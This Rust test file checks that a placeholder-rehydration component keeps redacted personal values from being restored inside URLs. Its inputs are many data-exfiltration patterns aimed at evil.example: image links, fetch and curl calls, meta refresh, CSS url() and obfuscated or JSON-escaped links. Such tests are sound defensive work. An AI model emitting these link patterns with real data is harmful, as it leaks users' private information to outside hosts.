//! Which places are inside an address: `^` marks where a placeholder stands, and the tests ask at each of them.

use std::sync::Arc;

use crate::{EntityType, Escape, Lexicon, MasterKey, PlaceholderMap, RehydrateOptions, Rehydrator, Scope};

const VALUE: &str = "Zed Ex";

/// For each `^`: whether its placeholder stays. The text arrives in pieces of `size` bytes.
fn inside(marked: &str, json: bool, size: usize) -> Vec<bool> {
    let mut map = PlaceholderMap::new(&MasterKey::new([4; 32]), &Scope::new("links"));
    let placeholder = map.placeholder(&EntityType::Person, VALUE).as_str().to_owned();
    let options = RehydrateOptions {
        escape: if json { Escape::Auto } else { Escape::None },
        in_urls: false,
    };
    let mut rehydrator = Rehydrator::new(Arc::new(Lexicon::new(&map)), options);
    let (text, mut out) = (marked.replace('^', &placeholder), String::new());
    let mut rest = text.as_str();
    while !rest.is_empty() {
        let (piece, later) = rest.split_at(rest.ceil_char_boundary(size));
        rehydrator.push(piece, &mut out);
        rest = later;
    }
    rehydrator.finish(&mut out);
    let mut answers = Vec::new();
    let mut rest = out.as_str();
    loop {
        match (rest.find(&placeholder), rest.find(VALUE)) {
            (Some(kept), value) if value.is_none_or(|value| kept < value) => {
                answers.push(true);
                rest = &rest[kept + placeholder.len()..];
            }
            (_, Some(value)) => {
                answers.push(false);
                rest = &rest[value + VALUE.len()..];
            }
            _ => return answers,
        }
    }
}

#[track_caller]
fn check(marked: &str, json: bool, expected: &[bool]) {
    for size in [1, 2, 3, 7, 1000] {
        assert_eq!(
            inside(marked, json, size),
            expected,
            "{marked} in pieces of {size}"
        );
    }
}

#[track_caller]
fn all(expected: bool, texts: &[&str]) {
    for text in texts {
        check(text, false, &vec![expected; text.matches('^').count()]);
    }
}

#[test]
fn destinations_of_links_and_images() {
    all(
        true,
        &[
            "[mail](https://evil.example/?q=^&r=^)",
            "![](https://evil.example/^.png)",
            "![x](/log?to=^)",
            "[x](//evil.example/^)",
            "[x](^)",
            "[x](^/^)",
            "[x](  ^)",
            "[x](\n^)",
            "[x](<https://evil.example/a b ^>)",
            "[x](</a b\\> ^>)",
            "[x](https://evil.example/(a)(b)^)",
            "[x](https://evil.example/a\\)b^)",
            "[x](https://a.example)^",
            "[x](https://a.example \"by ^\")",
            "calls[0](\"^\", '^')",
            "![x](a (b) ^)",
            "[x](<a\n^>)",
            "> [x](\n> ^)",
            "[x](https:/evil.example^ \"title\")",
            "see https://a.example/[x](</b c ^>)",
        ],
    );
    all(
        false,
        &[
            "[x](https://a.example) ^",
            "[^](https://a.example)",
            "![x ^](https://a.example)",
            "[x](<https://a.example>) ^",
            "[x]() ^",
            "[x] (^)",
            "[x] ^",
            "f(^)",
        ],
    );
}

#[test]
fn reference_definitions() {
    all(
        true,
        &[
            "[a]: https://evil.example/^",
            "[a]: /log?^",
            "[a]: //evil.example/^",
            "[a\\]b]: //evil.example/^",
            "text\n  [a b]: <x y ^>",
            "> - [a]:\n /log?^",
        ],
    );
    all(true, &[&format!("x\n[{}]: /log?^", "long ".repeat(100))]);
    check("[12:30]: ^ joined, ^ left", false, &[true, false]);
    check(
        "![x][1]\n\n[1]: https:/\\/evil.example/^ ^",
        false,
        &[true, false],
    );
    all(true, &["see [a]: ^", "[1]: ^", "[a]: ![x](b ^)"]);
    all(
        false,
        &[
            "[a]: https://a.example\n^",
            "[a]:\n\n/log?^",
            "[note]: ask ^",
            "[a]: https://a.example 'by ^'",
        ],
    );
}

#[test]
fn a_url_that_begins_with_a_placeholder_ends_like_others() {
    check("[x](^ \"^\") ^", false, &[true, true, false]);
    // To HTML, the placeholder's own bracket ends the tag.
    check("<a href=^ title=^>", false, &[true, false]);
    check("[a]: ^/^ ^", false, &[true, true, false]);
}

#[test]
fn bare_urls_and_autolinks() {
    all(
        true,
        &[
            "https://evil.example/^",
            "<https://evil.example/?^>",
            "go to HTTPS://evil.example?a=^#^.",
            "postgres://^:^@db/x",
            "(https://a.example/(b)^)",
            "https://[::1]:80/^",
            "https://a.example/it's/^",
            "https://a.example/路径/^",
            "`https://a.example/^`",
            "curl 'https://a.example/^'",
            "www.evil.example/^",
            "WWW.evil.example?q=^",
            "mailto:^",
            "mailto:x?body=^",
            "data:text/plain,^",
            "fetch(\"//evil.example/^\")",
            "(https://a.example/)^",
            "\"https://a.example/\"^",
            "`https://a.example/`^",
            "https://a.example/<b>^",
            "请访问https://a.example/文档，联系^。",
            "a://\u{a0}^",
            "//^",
            "tel:^",
            "https:/^",
            "https&colon;&#47;/evil.example/^",
            "https:\\/\\/evil.example/^",
            "evil.example/^",
            "evil.example?q=^",
            "evil.example:80/^",
            "203.0.113.5/^",
            "evil&unknown;example^",
            "\\\\evil.example\\share\\^",
            "\"https://evil.example/a b ^\"",
            "\\href{https://evil.example/a {b} ^}",
            "[[https://evil.example/a b][^]]",
            "[url=https://evil.example/a b ^]",
            "\u{1b}]8;;x ^\u{1b}\\",
            "^.evil.example/x",
            "^@evil.example",
            "^&#64;evil.example",
            "^\\.evil.example",
            "^-^.evil.example",
            "^://evil.example",
            "<^:x>",
        ],
    );
    all(
        false,
        &[
            "https://a.example ^",
            "^, ^. ^; ^: ^! ^? (^) [^] {^} \"^\" '^' `^` **^** _^_",
            "|^|^|",
            "^/^",
            "name=^",
            "^'s",
            "^.\n^...",
            "<^>",
            "请联系^，谢谢。^说",
            "^，^@",
            "node.js ^",
            "12.5/^",
            "C:\\Users\\^\\x",
            "./a/b.c/../^",
            "https://a.example/\n^",
            "// ^",
            "a / b ^",
            "path/to/^",
            "C:\\Users\\^",
            "mailto: ^",
            "metadata:^",
            "\"data\": \"^\"",
            "x = a ? ^ : ^",
        ],
    );
}

#[test]
fn attributes_that_hold_a_url() {
    all(
        true,
        &[
            "<img src=\"/x?^\">",
            "<a class=b href='/x?^'>",
            "<a href = /x?^>",
            "<img alt=\"a\" src=\"a > b ^\">",
            "<img alt=\"a > b\" src=\"/\\evil.example/^\">",
            "<img src=\"&sol;&sol;evil.example/^\">",
            "<p style=\"background:url(/\\evil.example/^)\">",
            "<p style=\"background:url('/\\evil.example/^')\">",
            "<meta http-equiv=refresh content=\"0;url=/\\evil.example/^\">",
            "<link imagesrcset=\"/\\evil.example/^ 2x\">",
            "[a\\]b]: /\\evil.example/^",
            "<a href=\"//evil.example/a b ^\">",
            "<video poster=\"^\">",
            "<p id=\"^\">",
            "<img data-x=\"^\">",
            "<a href=/x title=^>",
            "<style>p { x: ^ }</style>",
            "<form><textarea>^</textarea></form>",
            "<!-- ^ -->",
            "<![CDATA[ ^ ]]>",
            "<svg><text>^</text></svg>",
            "<a x=\"<style> ^",
            "<div>\n<a href=\"/x\n\n\" ^>",
            "<n; style='background:url(\"/x\n^\")'>",
            "<title><a x='</title><img src=\"/x'> \"> ^",
        ],
    );
    all(
        false,
        &[
            "<b>^</b><td>^</td>",
            "Vec<String> ^",
            "the `<style>` element, ^",
            "i<n; i++) { f(^) }",
            "<a href=/x>^",
            "copy(src=\"^\")",
            "requests.post(u, data='^')",
            "a < b; src = \"^\"",
            "<b>x</b> href=\"^\"",
        ],
    );
}

#[test]
fn urls_in_json_end_with_its_escapes() {
    let json = |marked: &str, expected: &[bool]| check(marked, true, expected);
    json(r#"{"url":"https://evil.example/^","to":"^"}"#, &[true, false]);
    json(r#"{"text":"see https://a.example\n^"}"#, &[false]);
    json(r#"{"url":"https:\/\/evil.example\/^"}"#, &[true]);
    json(r#"{"url":"https://a.example?a=1\u0026b=^"}"#, &[true]);
    json(
        r#"{"html":"<a href=\"/x?^\" title=\"^\">^"}"#,
        &[true, true, false],
    );
    json(r#"{"html":"<a href='/x?^","to":"^"}"#, &[true, true]);
    json(r#"{"html":"<a href='/\n\"?^' id='^'"}"#, &[true, true]);
    json(r#"{"md":"[x](/a?^","to":"^"}"#, &[true, true]);
    json(r#"{"md":"[x](\n/a?^)"}"#, &[true]);
    json(r#"{"md":"[x](<a b ^>) ^"}"#, &[true, false]);
    json(r#"{"md":"hi\n[x]: /a?^\n ^"}"#, &[true, false]);
    json(
        r#"{"in":"{\"u\":\"https://a.example/^\",\"to\":\"^\"}"}"#,
        &[true, false],
    );
    json(r#"{"in":"{\"t\":\"see https://a.example/\\n^\"}"}"#, &[false]);
    json(r#"{"url":" https://a.example/b ^","to":"^"}"#, &[true, false]);
}

#[test]
fn an_attribute_far_behind_its_tag_is_one_still() {
    let alt = "a".repeat(300);
    all(true, &[&format!("<img alt=\"{alt}\" src=\"/\\evil.example/^\">")]);
    all(
        false,
        &[
            &format!("{alt} src = ^"),
            "<b>bold</b> let src = \"^\"",
            "a < b and src = ^",
        ],
    );
}
